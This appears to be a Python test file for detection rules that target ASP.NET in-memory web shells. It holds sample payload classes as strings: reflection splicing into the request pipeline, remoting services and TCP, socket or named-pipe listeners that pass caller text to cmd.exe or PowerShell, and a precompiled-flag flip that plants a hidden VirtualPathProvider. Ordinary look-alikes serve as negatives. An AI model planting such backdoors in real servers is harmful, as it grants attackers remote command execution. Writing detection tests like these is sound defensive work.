"""Rules from the thirty-second unseen collection: .NET in-memory shell injectors and framework-level
backdoors (issue 14, helper X32).

The collection took the public in-memory shell code of ASP.NET (BENCHMARKS.md, "Unseen shells, thirty-second
collection: .NET in-memory shell injectors"): injector pages that register a VirtualPathProvider, insert a
route or add an MVC global filter of their own, start an HttpListener, and the C# payload classes an injector
page or a deserialisation gadget loads (ysoserial.net ``-c payload.cs``), which the server compiles when they
lie in App_Code. The pages were found on first sight; three payload classes were not, because none of them
reads ``Request`` where the behaviour analysis or ``EXT_WEBSHELL_Memory_Shell_Injector`` (a server page that
reaches the request) would see it:

* a class that splices its own event step into every pooled HttpApplication by reflection - the nested
  ``SyncEventExecutionStep`` type, ``GetModuleContainer`` + ``AddEvent``, the step manager's ``_execSteps`` -
  and answers marked WebSocket connections (``EXT_WEBSHELL_Pipeline_Step_Splice``);
* a class that registers its own MarshalByRefObject as a .NET Remoting well-known service whose method runs
  ``cmd.exe /c`` with the caller's text (``EXT_WEBSHELL_Remoting_Command_Service``);
* ysoserial.net's ghost web shell, which flips BuildManager's private precompiled-application flags by
  reflection so that its VirtualPathProvider is taken on a precompiled site
  (``EXT_WEBSHELL_Precompiled_Flag_Flip_Path_Provider``).

All three are in ``data/rules/memory_shell_payloads.yar``, with a fourth written after the measurement from the
collection's HttpListener pages: the same idea with a raw listener - a TcpListener, a bound listening Socket or
a named pipe server accepted inside w3wp and feeding cmd or PowerShell (``EXT_WEBSHELL_Listener_Fed_Interpreter``);
probes of that shape in an App_Code class and in a page with a fixed port were silent before it. What stays silent: a stack trace that names the step
type, framework-like source that declares ``_execSteps``, a module registered the ordinary way, a page that
lists the application's modules, a remoting service that runs its own batch file, an App_Code class that
registers an embedded-resource VirtualPathProvider after reading the public ``IsPrecompiledApp``, and a
Global.asax that registers its routes, filters and provider at start-up. The code below was written for
these tests (nothing is compiled or run); it reproduces the shapes, not the collected files.
"""

from __future__ import annotations

from .rule_tables import Page, RuleCase, quiet_pages_test, rule_tables

_SPLICE = "EXT_WEBSHELL_Pipeline_Step_Splice"
_REMOTING = "EXT_WEBSHELL_Remoting_Command_Service"
_FLAGS = "EXT_WEBSHELL_Precompiled_Flag_Flip_Path_Provider"
_LISTENER = "EXT_WEBSHELL_Listener_Fed_Interpreter"

SPLICE_PAYLOADS: list[Page] = [
    (
        "App_Code/step-append-classic",
        ".cs",
        "using System; using System.Reflection; using System.Web;\n"
        "public class Hook\n{\n"
        "    public Hook() { Arm(HttpContext.Current.ApplicationInstance); }\n"
        "    static void Arm(HttpApplication app)\n    {\n"
        "        var f = BindingFlags.Instance | BindingFlags.NonPublic;\n"
        '        var st = typeof(HttpApplication).GetNestedType("SyncEventExecutionStep", BindingFlags.NonPublic);\n'
        "        var step = st.GetConstructor(f, null, new[] { typeof(HttpApplication), typeof(EventHandler) }, null)\n"
        "            .Invoke(new object[] { app, new EventHandler(OnStep) });\n"
        '        var sm = typeof(HttpApplication).GetField("_stepManager", f).GetValue(app);\n'
        '        var es = sm.GetType().GetField("_execSteps", f);\n'
        "        var old = (Array)es.GetValue(sm);\n"
        "        var neu = Array.CreateInstance(old.GetType().GetElementType(), old.Length + 1);\n"
        "        Array.Copy(old, neu, old.Length); neu.SetValue(step, old.Length); es.SetValue(sm, neu);\n"
        "    }\n"
        '    static void OnStep(object s, EventArgs e) { HttpContext.Current.Response.AppendHeader("X-Step", "1"); }\n'
        "}\n",
    ),
    (
        "App_Code/step-module-container-integrated",
        ".cs",
        "using System; using System.Reflection; using System.Web;\n"
        "public class Tap\n{\n"
        "    public static void Add(HttpApplication app, object step)\n    {\n"
        "        var f = BindingFlags.Instance | BindingFlags.NonPublic;\n"
        '        object c = typeof(HttpApplication).GetMethod("GetModuleContainer", f).Invoke(app, new object[] { "Session" });\n'
        "        foreach (var m in c.GetType().GetMethods(f))\n"
        '            if (m.Name == "AddEvent") m.Invoke(c, new object[] { RequestNotification.BeginRequest, false, step });\n'
        "    }\n"
        "    public static object Step(HttpApplication app, EventHandler h)\n    {\n"
        '        var t = typeof(HttpApplication).Assembly.GetType("System.Web.HttpApplication+SyncEventExecutionStep");\n'
        "        return Activator.CreateInstance(t, BindingFlags.Instance | BindingFlags.NonPublic, null, new object[] { app, h }, null);\n"
        "    }\n}\n",
    ),
    (
        "pool-walk-vb",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%@ Import Namespace="System.Reflection" %>\n<script runat="server">\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        '    Dim ft = GetType(HttpApplication).Assembly.GetType("System.Web.HttpApplicationFactory")\n'
        '    Dim fac = ft.GetField("_theApplicationFactory", BindingFlags.Static Or BindingFlags.NonPublic).GetValue(Nothing)\n'
        '    Dim st = GetType(HttpApplication).GetNestedType("SyncEventExecutionStep", BindingFlags.NonPublic)\n'
        '    Status.Text = ft.GetField("_freeList", BindingFlags.Instance Or BindingFlags.NonPublic).GetValue(fac).ToString() & st.Name\n'
        'End Sub\n</script>\n<asp:Label id="Status" runat="server" />\n',
    ),
]

SPLICE_ORDINARY: list[Page] = [
    (
        "error-page-with-stack-trace",
        ".aspx",
        '<%@ Page Language="C#" %>\n<html><body><h2>Server Error</h2><pre>\n'
        "[HttpException]: File does not exist.\n"
        "   at System.Web.HttpApplication.SyncEventExecutionStep.System.Web.HttpApplication.IExecutionStep.Execute()\n"
        "   at System.Web.HttpApplication.ExecuteStep(IExecutionStep step, Boolean&amp; completedSynchronously)\n"
        "   at System.Web.HttpApplication.PipelineStepManager.ResumeSteps(Exception error) (_execSteps)\n"
        "</pre></body></html>\n",
    ),
    (
        "App_Code/framework-like-step-source",
        ".cs",
        "using System.Collections.Generic;\nnamespace Mirror.Web\n{\n"
        "    internal sealed class StepManager\n    {\n"
        "        private IExecutionStep[] _execSteps;\n"
        "        internal void Remove(List<IExecutionStep> list, object handler)\n        {\n"
        "            for (int i = 0; i < list.Count; i++)\n            {\n"
        "                var s = list[i] as SyncEventExecutionStep;\n"
        "                if (s != null && s.Handler == handler) { list.RemoveAt(i); break; }\n"
        "            }\n        }\n    }\n"
        "    internal interface IExecutionStep { }\n"
        "    internal sealed class SyncEventExecutionStep : IExecutionStep { public object Handler; }\n}\n",
    ),
    (
        "App_Code/ordinary-timing-module",
        ".cs",
        "using System; using System.Web;\n"
        "public class TimingModule : IHttpModule\n{\n"
        "    public void Init(HttpApplication app) { app.BeginRequest += (s, e) => "
        'HttpContext.Current.Items["t0"] = DateTime.UtcNow; }\n'
        "    public void Dispose() { }\n}\n",
    ),
    (
        "module-list-page",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        "foreach (string k in HttpContext.Current.ApplicationInstance.Modules.AllKeys)\n"
        '    Response.Write(Server.HtmlEncode(k) + "<br/>");\n%>\n',
    ),
]

REMOTING_PAYLOADS: list[Page] = [
    (
        "App_Code/remoting-uri-command",
        ".cs",
        "using System; using System.Diagnostics; using System.Runtime.Remoting;\n"
        "public class Boot\n{\n"
        '    public Boot() { RemotingConfiguration.RegisterWellKnownServiceType(typeof(Svc), "svc", '
        "WellKnownObjectMode.Singleton); }\n"
        "    public class Svc : MarshalByRefObject\n    {\n"
        "        public string Run(string line)\n        {\n"
        '            var i = new ProcessStartInfo("cmd.exe", "/c " + line) { UseShellExecute = false, '
        "RedirectStandardOutput = true };\n"
        "            using (var p = Process.Start(i)) return p.StandardOutput.ReadToEnd();\n"
        "        }\n    }\n}\n",
    ),
    (
        "App_Code/remoting-powershell-vb",
        ".vb",
        "Imports System.Diagnostics\nImports System.Runtime.Remoting\n"
        "Public Class Agent\n    Inherits System.MarshalByRefObject\n"
        "    Public Shared Sub Open()\n"
        '        RemotingConfiguration.RegisterWellKnownServiceType(GetType(Agent), "agent.rem", WellKnownObjectMode.Singleton)\n'
        "    End Sub\n"
        "    Public Function Exec(ByVal t As String) As String\n"
        '        Dim p = Process.Start(New ProcessStartInfo("powershell", "-c " & t) With {.UseShellExecute = False, '
        ".RedirectStandardOutput = True})\n"
        "        Return p.StandardOutput.ReadToEnd()\n    End Function\nEnd Class\n",
    ),
]

REMOTING_ORDINARY: list[Page] = [
    (
        "App_Code/remoting-calculator",
        ".cs",
        "using System; using System.Runtime.Remoting;\n"
        "public class Calc : MarshalByRefObject { public int Add(int a, int b) { return a + b; } }\n"
        "public static class RemotingStart\n{\n"
        '    public static void AppInitialize() { RemotingConfiguration.RegisterWellKnownServiceType(typeof(Calc), "calc.rem", '
        "WellKnownObjectMode.SingleCall); }\n}\n",
    ),
    (
        "App_Code/remoting-own-batch",
        ".cs",
        "using System; using System.Diagnostics; using System.Runtime.Remoting;\n"
        "public class Nightly : MarshalByRefObject\n{\n"
        '    public static void Open() { RemotingConfiguration.RegisterWellKnownServiceType(typeof(Nightly), "nightly.rem", '
        "WellKnownObjectMode.Singleton); }\n"
        '    public void Run() { Process.Start(new ProcessStartInfo("cmd.exe", "/c C:\\\\jobs\\\\nightly.bat") '
        "{ UseShellExecute = false }); }\n}\n",
    ),
]

FLAG_PAYLOADS: list[Page] = [
    (
        "App_Code/ghost-provider-class",
        ".cs",
        "using System; using System.Reflection; using System.Web.Compilation; using System.Web.Hosting;\n"
        "class Ghost\n{\n"
        "    public Ghost()\n    {\n"
        "        var bm = typeof(BuildManager);\n"
        '        var inst = bm.GetField("_theBuildManager", BindingFlags.Static | BindingFlags.NonPublic).GetValue(null);\n'
        '        bm.GetField("_isPrecompiledAppComputed", BindingFlags.Instance | BindingFlags.NonPublic).SetValue(inst, true);\n'
        '        bm.GetField("_isPrecompiledApp", BindingFlags.Instance | BindingFlags.NonPublic).SetValue(inst, false);\n'
        '        HostingEnvironment.RegisterVirtualPathProvider(new MemoryPages("/ghost/", "<p>hello</p>"));\n'
        "    }\n"
        "    class MemoryPages : VirtualPathProvider\n    {\n"
        "        readonly string dir, text;\n"
        "        public MemoryPages(string d, string t) { dir = d; text = t; }\n"
        "        public override bool FileExists(string p) { return p.Contains(dir) || Previous.FileExists(p); }\n"
        "    }\n}\n",
    ),
    (
        "flag-flip-internal-registration",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Reflection" %>\n<%\n'
        "var t = typeof(System.Web.Compilation.BuildManager);\n"
        'var b = t.GetField("_theBuildManager", BindingFlags.Static | BindingFlags.NonPublic).GetValue(null);\n'
        'var flag = t.GetField("_isPrecompiledApp", BindingFlags.Instance | BindingFlags.NonPublic);\n'
        "flag.SetValue(b, false);\n"
        'typeof(System.Web.Hosting.HostingEnvironment).GetMethod("RegisterVirtualPathProviderInternal", '
        'BindingFlags.Static | BindingFlags.NonPublic).Invoke(null, new object[] { Cache["vpp"] });\n%>\n',
    ),
]

FLAG_ORDINARY: list[Page] = [
    (
        "App_Code/embedded-resource-provider",
        ".cs",
        "using System.Web.Compilation; using System.Web.Hosting;\n"
        "public static class ResourcePages\n{\n"
        "    public static void AppInitialize()\n    {\n"
        "        if (BuildManager.IsPrecompiledApp) return;\n"
        "        HostingEnvironment.RegisterVirtualPathProvider(new EmbeddedPages());\n    }\n}\n"
        "public class EmbeddedPages : VirtualPathProvider\n{\n"
        '    public override bool FileExists(string p) { return p.StartsWith("~/Embedded/") || Previous.FileExists(p); }\n}\n',
    ),
    (
        "App_Code/precompiled-diagnostics-read-only",
        ".cs",
        "using System.Reflection; using System.Web.Compilation; using System.Web.Hosting;\n"
        "public static class BuildInfo\n{\n"
        "    public static string Describe()\n    {\n"
        '        var f = typeof(BuildManager).GetField("_isPrecompiledApp", BindingFlags.Instance | BindingFlags.NonPublic);\n'
        '        var b = typeof(BuildManager).GetField("_theBuildManager", BindingFlags.Static | BindingFlags.NonPublic).GetValue(null);\n'
        '        return "precompiled=" + f.GetValue(b) + " provider=" + HostingEnvironment.VirtualPathProvider + '
        '" RegisterVirtualPathProvider not called";\n'
        "    }\n}\n",
    ),
]

LISTENER_SHELLS: list[Page] = [
    (
        "App_Code/tcp-listener-thread",
        ".cs",
        "using System; using System.Diagnostics; using System.IO; using System.Net; using System.Net.Sockets;\n"
        "public static class Warm\n{\n"
        "    public static void AppInitialize() { new System.Threading.Thread(Serve) { IsBackground = true }.Start(); }\n"
        "    static void Serve()\n    {\n"
        "        var l = new TcpListener(IPAddress.Loopback, 4455); l.Start();\n"
        "        using (var c = l.AcceptTcpClient())\n        {\n"
        "            var r = new StreamReader(c.GetStream());\n"
        '            Process.Start(new ProcessStartInfo("cmd.exe", "/c " + r.ReadLine()) { UseShellExecute = false });\n'
        "        }\n    }\n}\n",
    ),
    (
        "fixed-port-socket-page",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Net.Sockets" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e)\n{\n"
        "    var srv = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n"
        "    srv.Bind(new System.Net.IPEndPoint(System.Net.IPAddress.Any, 4456)); srv.Listen(1);\n"
        "    var c = srv.Accept();\n"
        '    var p = new System.Diagnostics.Process { StartInfo = new System.Diagnostics.ProcessStartInfo("powershell.exe") '
        "{ UseShellExecute = false, RedirectStandardInput = true } };\n"
        "    p.Start(); var buf = new byte[512]; int n = c.Receive(buf);\n"
        "    p.StandardInput.WriteLine(System.Text.Encoding.ASCII.GetString(buf, 0, n));\n}\n</script>\n",
    ),
    (
        "App_Code/named-pipe-console-vb",
        ".vb",
        "Imports System.Diagnostics\nImports System.IO\nImports System.IO.Pipes\n"
        "Public Module PipeHost\n    Public Sub Run()\n"
        '        Using s As New NamedPipeServerStream("diag")\n'
        "            s.WaitForConnection()\n"
        "            Dim r As New StreamReader(s)\n"
        '            Process.Start(New ProcessStartInfo("cmd", "/c " & r.ReadLine()) With {.UseShellExecute = False})\n'
        "        End Using\n    End Sub\nEnd Module\n",
    ),
]

LISTENER_ORDINARY: list[Page] = [
    (
        "App_Code/health-check-listener",
        ".cs",
        "using System.Net; using System.Net.Sockets; using System.Text;\n"
        "public static class Health\n{\n"
        "    public static void Serve()\n    {\n"
        "        var l = new TcpListener(IPAddress.Loopback, 9099); l.Start();\n"
        "        using (var c = l.AcceptTcpClient())\n"
        '        { var b = Encoding.ASCII.GetBytes("OK"); c.GetStream().Write(b, 0, b.Length); }\n'
        "    }\n}\n",
    ),
    (
        "App_Code/pipe-runs-own-batch",
        ".cs",
        "using System.Diagnostics; using System.IO.Pipes;\n"
        "public static class Nightly\n{\n"
        "    public static void Wait()\n    {\n"
        '        using (var s = new NamedPipeServerStream("nightly")) { s.WaitForConnection(); '
        'Process.Start(new ProcessStartInfo("cmd.exe", "/c C:\\\\jobs\\\\nightly.bat") { UseShellExecute = false }); }\n'
        "    }\n}\n",
    ),
    (
        "command-page-without-listener",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%\n'
        'var i = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c ping -n 1 " + '
        'System.Net.IPAddress.Parse(Request["host"]).ToString()) { UseShellExecute = false, RedirectStandardOutput = true };\n'
        "Response.Write(System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd());\n%>\n",
    ),
]

CASES: list[RuleCase] = [
    (_SPLICE, SPLICE_PAYLOADS, SPLICE_ORDINARY),
    (_REMOTING, REMOTING_PAYLOADS, REMOTING_ORDINARY),
    (_FLAGS, FLAG_PAYLOADS, FLAG_ORDINARY),
    (_LISTENER, LISTENER_SHELLS, LISTENER_ORDINARY),
]

(
    test_shell_is_found,
    test_ordinary_page_is_not_flagged,
    test_rule_needs_a_server_page,
) = rule_tables(CASES)

#: The brief's twins: what applications do with the same framework hooks, which must raise nothing at all.
QUIET_TWINS: list[Page] = [
    FLAG_ORDINARY[0],
    REMOTING_ORDINARY[0],
    SPLICE_ORDINARY[0],
    SPLICE_ORDINARY[2],
    LISTENER_ORDINARY[0],
    (
        "Global",
        ".asax",
        '<%@ Application Language="C#" %>\n<%@ Import Namespace="System.Web.Mvc" %>\n'
        '<%@ Import Namespace="System.Web.Routing" %>\n<%@ Import Namespace="System.Web.Hosting" %>\n'
        '<script runat="server">\n'
        "void Application_Start(object sender, EventArgs e)\n{\n"
        '    RouteTable.Routes.IgnoreRoute("{resource}.axd/{*pathInfo}");\n'
        '    RouteTable.Routes.Insert(0, new Route("health", new StopRoutingHandler()));\n'
        '    RouteTable.Routes.MapRoute("Default", "{controller}/{action}/{id}", '
        'new { controller = "Home", action = "Index", id = UrlParameter.Optional });\n'
        "    GlobalFilters.Filters.Add(new HandleErrorAttribute());\n"
        '    HostingEnvironment.RegisterVirtualPathProvider(new ZipPages(Server.MapPath("~/App_Data/site.zip")));\n'
        "}\n</script>\n",
    ),
]

test_framework_twins_raise_nothing = quiet_pages_test(QUIET_TWINS)
